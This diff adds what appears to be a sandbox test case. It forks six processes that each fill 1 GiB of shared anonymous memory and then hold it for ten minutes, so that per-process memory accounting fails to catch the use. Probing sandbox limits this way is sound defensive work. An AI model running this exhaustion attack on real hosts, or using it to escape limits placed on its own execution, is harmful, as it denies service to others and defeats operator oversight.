@@ -1,0 +1,21 @@
+# attack: several processes take memory that is shared, which no process is charged for alone
+# verdict: score or failed: .
+# if failed: 4
+
+# %% answer
+import mmap
+import os
+import time
+
+answer = 41
+reader, writer = os.pipe()
+for _ in range(6):
+    if os.fork() == 0:
+        shared = mmap.mmap(-1, 1024 * 1024 * 1024)
+        for _ in range(16):
+            shared.write(b"x" * (64 * 1024 * 1024))
+        os.write(writer, b"1")
+        time.sleep(600)
+os.close(writer)
+if len(b"".join(iter(lambda: os.read(reader, 1), b""))) == 6:
+    answer = 42
